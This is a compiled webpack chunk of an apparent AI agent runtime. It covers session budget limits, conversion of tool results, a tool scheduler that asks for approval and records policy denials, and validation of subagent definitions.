export const id = 555;
export const ids = [555];
export const modules = {

/***/ 44407:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   A0: () => (/* binding */ defaultScheduleTimeout),
/* harmony export */   CL: () => (/* binding */ cancelledForBudget),
/* harmony export */   Eo: () => (/* binding */ RunSpend),
/* harmony export */   Eu: () => (/* binding */ untilAborted),
/* harmony export */   N1: () => (/* binding */ resolveBudgets),
/* harmony export */   a3: () => (/* binding */ formatDuration),
/* harmony export */   ak: () => (/* binding */ BudgetTracker),
/* harmony export */   qI: () => (/* binding */ toTokenUsage),
/* harmony export */   vk: () => (/* binding */ addUsage)
/* harmony export */ });
/* unused harmony export DEFAULT_BUDGETS */
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
/* harmony import */ var _function_response_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(30133);


const DEFAULT_BUDGETS = {
    maxTurns: 100,
    maxToolCalls: 1000,
    timeoutMs: 30 * 60 * 1000,
    tokenBudget: Number.POSITIVE_INFINITY,
};
/**
 * What the sessions of one run spend together. Subagents run sessions of their own; their tokens
 * count against the run's token budget exactly as the main agent's do, so a fan-out cannot spend
 * past the limit a workflow set.
 */
class RunSpend {
    /** Tokens reported by every session of the run so far. */
    tokens = 0;
}
/** Fills in defaults and rejects limits that cannot work (zero, negative, fractional). */
function resolveBudgets(budgets = {}) {
    const resolved = {
        maxTurns: budgets.maxTurns ?? DEFAULT_BUDGETS.maxTurns,
        maxToolCalls: budgets.maxToolCalls ?? DEFAULT_BUDGETS.maxToolCalls,
        timeoutMs: budgets.timeoutMs ?? DEFAULT_BUDGETS.timeoutMs,
        tokenBudget: budgets.tokenBudget ?? DEFAULT_BUDGETS.tokenBudget,
    };
    requirePositiveInteger('maxTurns', resolved.maxTurns);
    requirePositiveInteger('maxToolCalls', resolved.maxToolCalls);
    requirePositiveInteger('timeoutMs', resolved.timeoutMs);
    if (resolved.tokenBudget !== Number.POSITIVE_INFINITY) {
        requirePositiveInteger('tokenBudget', resolved.tokenBudget);
    }
    return resolved;
}
function requirePositiveInteger(name, value) {
    if (!Number.isInteger(value) || value <= 0) {
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1(`The session budget ${name} must be a positive whole number, but it is ${String(value)}.`);
    }
}
/** Counts what the session has used and says when a limit is reached. */
class BudgetTracker {
    budgets;
    startedAt;
    now;
    turns = 0;
    toolCalls = 0;
    tokens = 0;
    constructor(budgets, startedAt, now) {
        this.budgets = budgets;
        this.startedAt = startedAt;
        this.now = now;
    }
    /** Checked before each model request: may another one be sent? */
    beforeRequest() {
        const timeout = this.checkTime();
        if (timeout)
            return timeout;
        if (this.turns >= this.budgets.maxTurns) {
            return {
                reason: 'max_turns',
                message: `Stopped after ${plural(this.turns, 'turn')} (max turns).`,
            };
        }
        return undefined;
    }
    checkTime() {
        if (this.now() - this.startedAt >= this.budgets.timeoutMs)
            return this.timeoutStop();
        return undefined;
    }
    timeoutStop() {
        return {
            reason: 'timeout',
            message: `Stopped after ${formatDuration(this.budgets.timeoutMs)} (timeout).`,
        };
    }
    /** Checked after each response, with the session's running token total. */
    afterResponse(totalTokens) {
        this.tokens = totalTokens;
        if (totalTokens > this.budgets.tokenBudget) {
            return {
                reason: 'token_budget',
                message: `Stopped after using ${totalTokens} tokens (token budget ${this.budgets.tokenBudget}).`,
            };
        }
        return undefined;
    }
    /** How many of `requested` tool calls may still run. */
    toolCallsAllowed(requested) {
        return Math.max(0, Math.min(requested, this.budgets.maxToolCalls - this.toolCalls));
    }
    toolCallStop() {
        return {
            reason: 'max_tool_calls',
            message: `Stopped after ${plural(this.toolCalls, 'tool call')} (max tool calls).`,
        };
    }
}
function plural(count, noun) {
    return `${count} ${noun}${count === 1 ? '' : 's'}`;
}
/** `90000` → `1m 30s`; `1500` → `1.5s`. */
function formatDuration(ms) {
    if (ms < 1000)
        return `${ms}ms`;
    if (ms < 60_000)
        return `${Number((ms / 1000).toFixed(1))}s`;
    const totalSeconds = Math.round(ms / 1000);
    const hours = Math.floor(totalSeconds / 3600);
    const minutes = Math.floor((totalSeconds % 3600) / 60);
    const seconds = totalSeconds % 60;
    const parts = [hours > 0 ? `${hours}h` : '', `${minutes}m`, seconds > 0 ? `${seconds}s` : ''];
    return parts.filter(Boolean).join(' ');
}
/** The counts of one response's `usageMetadata`, in the event stream's shape. */
function toTokenUsage(metadata) {
    const input = metadata?.promptTokenCount ?? 0;
    const output = metadata?.candidatesTokenCount ?? 0;
    const thoughts = metadata?.thoughtsTokenCount ?? 0;
    const toolUse = metadata?.toolUsePromptTokenCount ?? 0;
    return {
        input_tokens: input,
        output_tokens: output,
        cached_tokens: metadata?.cachedContentTokenCount ?? 0,
        thoughts_tokens: thoughts,
        tool_use_prompt_tokens: toolUse,
        total_tokens: metadata?.totalTokenCount ?? input + output + thoughts + toolUse,
    };
}
function addUsage(a, b) {
    return {
        input_tokens: a.input_tokens + b.input_tokens,
        output_tokens: a.output_tokens + b.output_tokens,
        cached_tokens: a.cached_tokens + b.cached_tokens,
        thoughts_tokens: a.thoughts_tokens + b.thoughts_tokens,
        tool_use_prompt_tokens: a.tool_use_prompt_tokens + b.tool_use_prompt_tokens,
        total_tokens: a.total_tokens + b.total_tokens,
    };
}
/**
 * Settles with `promise`, or rejects once `signal` has been aborted for `graceMs`: a transport or
 * tool that ignores its abort signal cannot keep a cancelled or timed-out session alive.
 */
function untilAborted(promise, signal, options) {
    return new Promise((resolve, reject) => {
        let timer;
        const giveUp = () => {
            reject(new Error('aborted'));
        };
        const onAbort = () => {
            if (options.graceMs <= 0)
                giveUp();
            else
                timer = setTimeout(giveUp, options.graceMs);
        };
        const settle = () => {
            signal.removeEventListener('abort', onAbort);
            if (timer !== undefined)
                clearTimeout(timer);
        };
        promise.then((value) => {
            settle();
            resolve(value);
        }, (error) => {
            settle();
            reject(error instanceof Error ? error : new Error((0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .errorMessage */ .gJ)(error)));
        });
        if (signal.aborted)
            onAbort();
        else
            signal.addEventListener('abort', onAbort, { once: true });
    });
}
/** Starts the session's wall-clock timer with `setTimeout`; returns a function that stops it. */
function defaultScheduleTimeout(callback, ms) {
    const timer = setTimeout(callback, ms);
    // The timer alone must not keep the process alive once the session is over.
    timer.unref();
    return () => {
        clearTimeout(timer);
    };
}
/**
 * A call the model made after the tool-call budget ran out: never run, but answered (so the
 * history stays valid) and reported as cancelled.
 */
function cancelledForBudget(request, tool, maxToolCalls) {
    const message = `Tool call cancelled: the session's limit of ${maxToolCalls} tool calls was reached.`;
    const error = { message, type: 'cancelled' };
    return {
        update: {
            tool_call_id: request.callId,
            status: 'CANCELLED',
            phase: 'cancelled',
            tool_name: request.name,
            input_parameters: request.args,
            error,
            duration_ms: 0,
            ...(tool ? { kind: tool.kind } : {}),
            ...(tool?.serverName === undefined ? {} : { server_name: tool.serverName }),
        },
        completed: {
            request,
            status: 'cancelled',
            result: { llmContent: message, returnDisplay: message, error },
            responseParts: [(0,_function_response_js__WEBPACK_IMPORTED_MODULE_1__/* .errorResponsePart */ .Hi)(request.callId, request.name, message)],
            durationMs: 0,
            ...(tool ? { tool } : {}),
        },
    };
}


/***/ }),

/***/ 60944:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Lj: () => (/* binding */ statusOfPhase),
/* harmony export */   NG: () => (/* binding */ promptIdFor),
/* harmony export */   ly: () => (/* binding */ emptyUsage)
/* harmony export */ });
function statusOfPhase(phase) {
    switch (phase) {
        case 'validating':
        case 'awaiting_approval':
        case 'scheduled':
            return 'PENDING';
        case 'executing':
            return 'EXECUTING';
        case 'successful':
            return 'SUCCEEDED';
        case 'errored':
            return 'FAILED';
        case 'cancelled':
            return 'CANCELLED';
    }
}
function emptyUsage() {
    return {
        input_tokens: 0,
        output_tokens: 0,
        cached_tokens: 0,
        thoughts_tokens: 0,
        tool_use_prompt_tokens: 0,
        total_tokens: 0,
    };
}
/**
 * The prompt id of a session's request `turn` (the Gemini CLI's shape, which Code Assist also
 * receives): the session id, eight `#`, the turn.
 */
function promptIdFor(sessionId, turn) {
    return `${sessionId}########${turn}`;
}


/***/ }),

/***/ 30133:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Hi: () => (/* binding */ errorResponsePart),
/* harmony export */   _j: () => (/* binding */ convertToFunctionResponse),
/* harmony export */   jT: () => (/* binding */ withError)
/* harmony export */ });
/* unused harmony exports TOOL_SUCCEEDED_OUTPUT, functionResponsePart */
function responsePart(data) {
    return { functionResponse: data };
}
/** The output sent for results that are a list of parts, or a part with nothing to say. */
const TOOL_SUCCEEDED_OUTPUT = 'Tool execution succeeded.';
/** One `{functionResponse: {id, name, response: {output}}}` part. */
function functionResponsePart(callId, toolName, output) {
    return responsePart({ id: callId, name: toolName, response: { output } });
}
/** The part a failed call sends: `{functionResponse: {id, name, response: {error}}}`. */
function errorResponsePart(callId, toolName, message) {
    return responsePart({ id: callId, name: toolName, response: { error: message } });
}
/**
 * - a string (or a lone text part) → one functionResponse with `{output: text}`;
 * - a list of parts → a functionResponse saying the tool succeeded, then the parts (strings become
 *   text parts);
 * - a lone inlineData/fileData part → a functionResponse naming its MIME type, then the part as a
 *   sibling in the same message;
 * - a lone functionResponse part → passed through under this call's id and name; MCP-style
 *   nested `content` is flattened into its text.
 * A one-element list is treated as that element.
 */
function convertToFunctionResponse(callId, toolName, llmContent) {
    const content = Array.isArray(llmContent) && llmContent.length === 1 ? llmContent[0] : llmContent;
    if (content === undefined)
        return [functionResponsePart(callId, toolName, TOOL_SUCCEEDED_OUTPUT)];
    if (typeof content === 'string')
        return [functionResponsePart(callId, toolName, content)];
    if (Array.isArray(content)) {
        return [functionResponsePart(callId, toolName, TOOL_SUCCEEDED_OUTPUT), ...toParts(content)];
    }
    if (content.functionResponse) {
        const nested = content.functionResponse.response?.content;
        if (nested !== undefined) {
            return [functionResponsePart(callId, toolName, textOf(nested))];
        }
        return [withIdentity(content.functionResponse, callId, toolName)];
    }
    const binary = content.inlineData ?? content.fileData;
    if (binary) {
        const mimeType = binary.mimeType ?? 'unknown';
        return [
            functionResponsePart(callId, toolName, `Binary content of type ${mimeType} was processed.`),
            content,
        ];
    }
    if (content.text !== undefined)
        return [functionResponsePart(callId, toolName, content.text)];
    return [functionResponsePart(callId, toolName, TOOL_SUCCEEDED_OUTPUT)];
}
/**
 * Adds `error` to the response of the first functionResponse part (a call stopped midway still
 * shows the model what it produced); without such a part, an error part is put first.
 */
function withError(parts, callId, toolName, message) {
    const [first, ...rest] = parts;
    if (!first?.functionResponse)
        return [errorResponsePart(callId, toolName, message), ...parts];
    return [withIdentity(first.functionResponse, callId, toolName, { error: message }), ...rest];
}
/** The same functionResponse under this call's id and name, `extra` merged into its response. */
function withIdentity(original, callId, toolName, extra) {
    const data = { id: callId, name: toolName };
    if (original.response !== undefined || extra !== undefined) {
        data.response = { ...original.response, ...extra };
    }
    if (original.parts !== undefined)
        data.parts = original.parts;
    if (original.scheduling !== undefined)
        data.scheduling = original.scheduling;
    if (original.willContinue !== undefined)
        data.willContinue = original.willContinue;
    return responsePart(data);
}
function toParts(list) {
    return list.map((part) => (typeof part === 'string' ? { text: part } : part));
}
/** The text of MCP content blocks (`[{type: 'text', text}]`) or of Gemini parts, joined. */
function textOf(content) {
    if (!Array.isArray(content))
        return typeof content === 'string' ? content : '';
    return content
        .map((block) => {
        const text = block?.text;
        return typeof text === 'string' ? text : '';
    })
        .join('');
}


/***/ }),

/***/ 53564:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Eb: () => (/* binding */ POLICY_DENIAL_PREFIX),
/* harmony export */   QN: () => (/* binding */ ToolScheduler),
/* harmony export */   qg: () => (/* binding */ toFunctionResponseContent)
/* harmony export */ });
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
/* harmony import */ var _tools_tool_types_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(29285);
/* harmony import */ var _events_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(60944);
/* harmony import */ var _function_response_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(30133);




/** The denial text the model reads; the policy's reason follows it. */
const POLICY_DENIAL_PREFIX = 'Tool execution denied by policy.';
const CONFIRMATION_OPTIONS = [
    { id: 'proceed_once', name: 'Allow Once' },
    { id: 'cancel', name: 'Reject' },
];
class ToolScheduler {
    options;
    now;
    liveInterval;
    setTimer;
    constructor(options) {
        this.options = options;
        this.now = options.now ?? Date.now;
        this.liveInterval = options.liveOutputIntervalMs ?? 1000;
        this.setTimer = options.setTimer ?? defaultTimer;
    }
    /** Runs the calls and returns them completed, in request order. */
    async run(requests, signal) {
        const calls = requests.map((request) => this.validate(request));
        const ready = calls.filter((call) => isReady(call));
        for (const group of executionGroups(ready)) {
            const approved = [];
            for (const call of group) {
                if (signal.aborted)
                    break;
                if (await this.approve(call, signal))
                    approved.push(call);
            }
            if (signal.aborted)
                break;
            await Promise.all(approved.map((call) => this.execute(call, signal)));
        }
        // Whatever has not finished by now was stopped by the signal before it could start.
        return calls.map((call) => call.completed ?? this.cancel(call, cancellationReason(signal)));
    }
    validate(request) {
        const call = {
            request,
            startedAt: this.now(),
            data: {
                tool_call_id: request.callId,
                status: 'PENDING',
                phase: 'validating',
                tool_name: request.name,
                input_parameters: request.args,
            },
        };
        const tool = this.options.registry.get(request.name);
        if (!tool) {
            this.emit(call);
            this.fail(call, {
                message: this.options.registry.notFoundMessage(request.name),
                type: 'tool_not_registered',
            });
            return call;
        }
        call.tool = tool;
        Object.assign(call.data, {
            tool_name: tool.name,
            kind: tool.kind,
            ...(tool.serverName === undefined ? {} : { server_name: tool.serverName }),
        });
        let built;
        try {
            built = tool.build(request.args);
        }
        catch (error) {
            built = { error: (0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .errorMessage */ .gJ)(error), type: 'invalid_tool_params' };
        }
        if ((0,_tools_tool_types_js__WEBPACK_IMPORTED_MODULE_1__/* .isBuildError */ .d1)(built)) {
            this.emit(call);
            this.fail(call, { message: built.error, type: built.type });
            return call;
        }
        const description = attempt(() => built.describe());
        if (description !== undefined)
            call.data.description = description;
        this.emit(call);
        return { ...call, tool, invocation: built };
    }
    /**
     * Asks the confirmer; true when the call may run. An approval that comes with changed file
     * content rebuilds the call with it and asks again, so what runs is what was judged last.
     */
    async approve(call, signal) {
        for (let round = 1;; round++) {
            const details = await this.confirmationDetails(call, signal);
            if (details === undefined)
                return false;
            const outcome = await this.confirm(call, details, signal);
            if (signal.aborted)
                return false;
            if (outcome.decision === 'cancel') {
                this.cancel(call, outcome.reason ?? 'The call was rejected.');
                return false;
            }
            if (outcome.decision === 'deny') {
                const { reason } = outcome;
                const message = reason ? `${POLICY_DENIAL_PREFIX} ${reason}` : POLICY_DENIAL_PREFIX;
                this.fail(call, { message, type: 'policy_violation' });
                return false;
            }
            if (outcome.modified_content === undefined)
                break;
            // Changed content is taken once: a confirmer that keeps changing it has not approved.
            const rebuilt = round === 1 ? this.withModifiedContent(call, details, outcome.modified_content) : undefined;
            if (rebuilt === undefined) {
                this.fail(call, {
                    message: `${POLICY_DENIAL_PREFIX} The changed content of this call could not be applied.`,
                    type: 'policy_violation',
                });
                return false;
            }
            if ('error' in rebuilt) {
                this.fail(call, { message: rebuilt.error, type: rebuilt.type });
                return false;
            }
            call.invocation = rebuilt;
            call.data.input_parameters = rebuilt.params;
            const description = attempt(() => rebuilt.describe());
            if (description !== undefined)
                call.data.description = description;
        }
        this.setPhase(call, 'scheduled');
        return true;
    }
    /** What a human would be asked, now shown on the call; undefined when the call already ended. */
    async confirmationDetails(call, signal) {
        let details;
        try {
            details = await call.invocation.confirmationDetails(signal);
        }
        catch (error) {
            if (!signal.aborted) {
                this.fail(call, { message: (0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .errorMessage */ .gJ)(error), type: 'execution_failed' });
            }
            return undefined;
        }
        this.setPhase(call, 'awaiting_approval', {
            confirmation_request: toConfirmationRequest(details),
        });
        return details;
    }
    async confirm(call, details, signal) {
        try {
            const outcome = await this.options.confirmer.confirm({
                callId: call.request.callId,
                toolName: call.tool.name,
                kind: call.tool.kind,
                ...(call.tool.serverName === undefined ? {} : { serverName: call.tool.serverName }),
                // The validated parameters, under their canonical names: what the policy judges is
                // exactly what `execute` will use (an alias such as `dir_path` is already mapped).
                args: call.invocation.params,
                locations: attempt(() => call.invocation.locations()) ?? [],
                details,
            }, signal);
            call.data.confirmation_outcome = outcome;
            return outcome;
        }
        catch (error) {
            // Fail closed: a confirmer that cannot answer has not allowed anything.
            return { decision: 'deny', reason: `The confirmation failed: ${(0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .errorMessage */ .gJ)(error)}` };
        }
    }
    /** The call rebuilt with the content a person wrote in place of the proposed edit. */
    withModifiedContent(call, details, newContent) {
        const { tool } = call;
        if (details.type !== 'edit' || tool.withModifiedContent === undefined)
            return undefined;
        try {
            const args = tool.withModifiedContent(call.invocation.params, {
                originalContent: details.originalContent,
                newContent,
            });
            return tool.build(args);
        }
        catch (error) {
            return { error: (0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .errorMessage */ .gJ)(error), type: 'invalid_tool_params' };
        }
    }
    async execute(call, signal) {
        this.setPhase(call, 'executing');
        const live = new LiveOutput({
            interval: this.liveInterval,
            now: this.now,
            setTimer: this.setTimer,
            report: (text) => {
                call.data.live_content = text;
                this.emit(call);
            },
        });
        let result;
        try {
            result = await call.invocation.execute(signal, (output) => {
                live.update(output);
            }, { callId: call.request.callId });
        }
        catch (error) {
            live.finish();
            if (signal.aborted) {
                this.cancel(call, cancellationReason(signal));
                return;
            }
            const diskFull = error?.code === 'ENOSPC';
            this.fail(call, {
                message: (0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .errorMessage */ .gJ)(error),
                type: diskFull ? 'no_space_left' : 'execution_failed',
            });
            return;
        }
        live.finish();
        if (signal.aborted) {
            this.cancel(call, cancellationReason(signal), result);
        }
        else if (result.error) {
            this.fail(call, result.error, result);
        }
        else {
            delete call.data.live_content;
            call.data.output = displayOutput(result.returnDisplay);
            this.complete(call, 'successful', result, [
                ...(0,_function_response_js__WEBPACK_IMPORTED_MODULE_2__/* .convertToFunctionResponse */ ._j)(call.request.callId, call.request.name, result.llmContent),
            ]);
        }
    }
    fail(call, error, result) {
        delete call.data.live_content;
        call.data.error = { message: error.message, type: error.type };
        const completed = this.complete(call, 'errored', result ?? { llmContent: error.message, returnDisplay: error.message, error }, [(0,_function_response_js__WEBPACK_IMPORTED_MODULE_2__/* .errorResponsePart */ .Hi)(call.request.callId, call.request.name, error.message)]);
        if (error.type === 'no_space_left')
            completed.fatal = true;
        return completed;
    }
    /**
     * A call stopped by the signal (or rejected by a person before it ran); output a tool produced
     * before it stopped is still sent.
     */
    cancel(call, reason, partial) {
        const message = `[Operation Cancelled] Reason: ${reason}`;
        const error = { message, type: 'cancelled' };
        delete call.data.live_content;
        call.data.error = error;
        if (!partial || partial.error) {
            return this.complete(call, 'cancelled', { llmContent: message, returnDisplay: partial?.returnDisplay ?? message, error }, [(0,_function_response_js__WEBPACK_IMPORTED_MODULE_2__/* .errorResponsePart */ .Hi)(call.request.callId, call.request.name, message)]);
        }
        const { callId, name } = call.request;
        const marked = (0,_function_response_js__WEBPACK_IMPORTED_MODULE_2__/* .withError */ .jT)((0,_function_response_js__WEBPACK_IMPORTED_MODULE_2__/* .convertToFunctionResponse */ ._j)(callId, name, partial.llmContent), callId, name, message);
        return this.complete(call, 'cancelled', { ...partial, error }, marked);
    }
    complete(call, status, result, responseParts) {
        const durationMs = Math.max(0, this.now() - call.startedAt);
        call.data.duration_ms = durationMs;
        const completed = {
            request: call.request,
            status,
            result,
            responseParts,
            durationMs,
            ...(call.tool ? { tool: call.tool } : {}),
        };
        call.completed = completed;
        this.setPhase(call, status);
        return completed;
    }
    setPhase(call, phase, changes = {}) {
        Object.assign(call.data, changes, { phase, status: (0,_events_js__WEBPACK_IMPORTED_MODULE_3__/* .statusOfPhase */ .Lj)(phase) });
        this.emit(call);
    }
    emit(call) {
        const { data } = call;
        this.options.logger.debug(`tool call ${data.tool_call_id} (${data.tool_name}): ${data.phase}`);
        try {
            // A copy, so a listener that keeps it sees this update and not later ones.
            this.options.onUpdate({ ...data });
        }
        catch (error) {
            this.options.logger.warning(`A tool call listener failed: ${(0,_platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .errorMessage */ .gJ)(error)}`);
        }
    }
}
/** The user turn that answers the model's function calls, parts in request order. */
function toFunctionResponseContent(completed) {
    return { role: 'user', parts: completed.flatMap((call) => call.responseParts) };
}
function isReady(call) {
    return 'invocation' in call && call.completed === undefined;
}
/**
 * Consecutive read-only calls share a group (run together); every other call is alone. A subagent
 * whose tools are all read-only is a read-only call: several of them in one turn run in parallel.
 */
function executionGroups(calls) {
    const groups = [];
    let reads;
    for (const call of calls) {
        if ((0,_tools_tool_types_js__WEBPACK_IMPORTED_MODULE_1__/* .isReadOnlyTool */ .RS)(call.tool)) {
            if (!reads) {
                reads = [];
                groups.push(reads);
            }
            reads.push(call);
        }
        else {
            reads = undefined;
            groups.push([call]);
        }
    }
    return groups;
}
function toConfirmationRequest(details) {
    const options = CONFIRMATION_OPTIONS.map((option) => ({ ...option }));
    switch (details.type) {
        case 'edit':
            return {
                options,
                details: {
                    file_edit_details: {
                        file_name: details.fileName,
                        file_path: details.filePath,
                        ...(details.originalContent === null ? {} : { old_content: details.originalContent }),
                        new_content: details.newContent,
                        formatted_diff: details.fileDiff,
                    },
                },
            };
        case 'exec':
            return {
                options,
                details: {
                    execute_details: {
                        command: details.command,
                        ...(details.workingDirectory === undefined
                            ? {}
                            : { working_directory: details.workingDirectory }),
                    },
                },
            };
        case 'mcp':
            return {
                options,
                details: { mcp_details: { server_name: details.serverName, tool_name: details.toolName } },
            };
        case 'info':
            return { options, details: { generic_details: { description: details.prompt } } };
    }
}
function displayOutput(display) {
    if (typeof display === 'string')
        return { text: display };
    return (0,_tools_tool_types_js__WEBPACK_IMPORTED_MODULE_1__/* .isTodoList */ .Zm)(display) ? { structured_data: { todos: display.todos } } : { diff: display };
}
function cancellationReason(signal) {
    const reason = signal.reason;
    if (typeof reason === 'string' && reason !== '')
        return reason;
    // `abort()` without a reason gives a generic AbortError, which says nothing useful.
    if (reason instanceof Error && reason.name !== 'AbortError' && reason.message !== '') {
        return reason.message;
    }
    return 'Operation cancelled';
}
function attempt(fn) {
    try {
        return fn();
    }
    catch {
        return undefined;
    }
}
function defaultTimer(callback, delayMs) {
    const handle = setTimeout(callback, delayMs);
    handle.unref();
    return () => {
        clearTimeout(handle);
    };
}
/**
 * Holds back live output that arrives within `interval` of the last report, and reports the
 * latest text once the interval is over (or when the tool finishes), so a chatty command costs
 * at most one update a second while its last line is never lost.
 */
class LiveOutput {
    options;
    lastReport = Number.NEGATIVE_INFINITY;
    pending;
    cancelTimer;
    finished = false;
    constructor(options) {
        this.options = options;
    }
    update(text) {
        if (this.finished)
            return;
        const elapsed = this.options.now() - this.lastReport;
        if (elapsed >= this.options.interval) {
            this.flush(text);
            return;
        }
        this.pending = text;
        this.cancelTimer ??= this.options.setTimer(() => {
            this.cancelTimer = undefined;
            if (!this.finished && this.pending !== undefined)
                this.flush(this.pending);
        }, this.options.interval - elapsed);
    }
    /** Reports what is still held back; later output is ignored. */
    finish() {
        if (this.pending !== undefined)
            this.flush(this.pending);
        this.finished = true;
    }
    flush(text) {
        this.cancelTimer?.();
        this.cancelTimer = undefined;
        this.pending = undefined;
        this.lastReport = this.options.now();
        this.options.report(text);
    }
}


/***/ }),

/***/ 65457:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   C9: () => (/* binding */ DEFAULT_AGENT_MAX_TURNS),
/* harmony export */   DH: () => (/* binding */ AGENT_NAME_PATTERN),
/* harmony export */   I_: () => (/* binding */ INHERIT_MODEL),
/* harmony export */   NY: () => (/* binding */ templatePlaceholders),
/* harmony export */   fO: () => (/* binding */ defineAgent),
/* harmony export */   lH: () => (/* binding */ AGENT_NAME_RULE),
/* harmony export */   ou: () => (/* binding */ fillTemplate),
/* harmony export */   pk: () => (/* binding */ DEFAULT_AGENT_TIMEOUT_MS),
/* harmony export */   uJ: () => (/* binding */ defaultQuery)
/* harmony export */ });
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(41514);
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
/**
 * A subagent's definition: the design's `AgentDefinition` ("Agent Execution Design"), with the
 * fields of the Gemini CLI's local agents. A subagent has its own system prompt, model settings,
 * tools (a subset of the session's, every call still judged by the policy), turn and time limits,
 * and an output schema; the main agent calls it like a tool, and it ends by handing in output
 * valid against that schema with `complete_task`.
 *
 * Definitions come from code (the built-in ones, the review's) and from Markdown files
 * (`agent-files.ts`); both pass through {@link defineAgent}, so a bad one is refused before any
 * session starts.
 */


/** The Gemini CLI's `DEFAULT_MAX_TURNS` for local agents. */
const DEFAULT_AGENT_MAX_TURNS = 30;
/** The Gemini CLI's `DEFAULT_MAX_TIME_MINUTES` (10) for local agents. */
const DEFAULT_AGENT_TIMEOUT_MS = 10 * 60_000;
/** `model: inherit`: the model the main session uses. */
const INHERIT_MODEL = 'inherit';
/**
 * A subagent's name is its tool's name: the Gemini CLI's slug (`^[a-z0-9-_]+$`), starting with a
 * letter or `_` and at most 64 characters, as the Gemini API requires of function names.
 */
const AGENT_NAME_PATTERN = /^[a-z_][a-z0-9_-]{0,63}$/;
const AGENT_NAME_RULE = 'a name of lower-case letters, digits, "-" and "_" that starts with a letter or "_" (at most 64 characters)';
const zodSchema = (what, type) => zod__WEBPACK_IMPORTED_MODULE_1__/* .custom */ .IeY((value) => value instanceof type, { message: `expected ${what}` });
const callback = () => zod__WEBPACK_IMPORTED_MODULE_1__/* .custom */ .IeY((value) => typeof value === 'function', { message: 'expected a function' });
const definitionSchema = zod__WEBPACK_IMPORTED_MODULE_1__/* .object */ .Ikc({
    name: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().regex(AGENT_NAME_PATTERN, `expected ${AGENT_NAME_RULE}`),
    displayName: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().trim().min(1).optional(),
    description: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().trim().min(1, 'expected a description of what the agent does'),
    systemPrompt: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().trim().min(1, "expected the agent's instructions (its system prompt)"),
    query: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().optional(),
    buildQuery: callback().optional(),
    inputSchema: zodSchema('a zod object schema for the inputs', zod__WEBPACK_IMPORTED_MODULE_1__/* .ZodObject */ .bvH),
    output: zod__WEBPACK_IMPORTED_MODULE_1__/* .object */ .Ikc({
        name: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().regex(/^[A-Za-z_][A-Za-z0-9_]*$/, 'expected an argument name'),
        description: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().min(1),
        schema: zodSchema('a zod schema for the output', zod__WEBPACK_IMPORTED_MODULE_1__/* .ZodType */ .aRx),
    })
        .optional(),
    onOutput: callback().optional(),
    model: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().trim().min(1).default(INHERIT_MODEL),
    temperature: zod__WEBPACK_IMPORTED_MODULE_1__/* .number */ .aig().min(0).max(2).optional(),
    topP: zod__WEBPACK_IMPORTED_MODULE_1__/* .number */ .aig().min(0).max(1).optional(),
    tools: zod__WEBPACK_IMPORTED_MODULE_1__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().trim().min(1)).optional(),
    maxTurns: zod__WEBPACK_IMPORTED_MODULE_1__/* .number */ .aig().int().positive().default(DEFAULT_AGENT_MAX_TURNS),
    timeoutMs: zod__WEBPACK_IMPORTED_MODULE_1__/* .number */ .aig().int().positive().default(DEFAULT_AGENT_TIMEOUT_MS),
    source: zod__WEBPACK_IMPORTED_MODULE_1__/* .string */ .YjP().min(1),
});
/**
 * Checks a definition and fills in its defaults; a bad one is a `ConfigurationError` naming the
 * agent, its source and each field that is wrong.
 */
function defineAgent(input) {
    const parsed = definitionSchema.safeParse(input);
    if (!parsed.success) {
        const problems = parsed.error.issues.map((issue) => `${issue.path.join('.') || 'definition'}: ${issue.message}`);
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1(`invalid agent definition${typeof input.name === 'string' ? ` "${input.name}"` : ''} (${input.source}): ${problems.join('; ')}.`);
    }
    // The callbacks and schemas are kept as given: zod checked what they are, not their types.
    return { ...input, ...parsed.data };
}
/** `${name}` placeholders, as the Gemini CLI's templates write them. */
const PLACEHOLDER = /\$\{(\w+)\}/g;
/** Each `${name}` of `text` with its offset, for checking a template before it is used. */
function templatePlaceholders(text) {
    return [...text.matchAll(PLACEHOLDER)].map((match) => ({
        name: match[1] ?? '',
        offset: match.index,
    }));
}
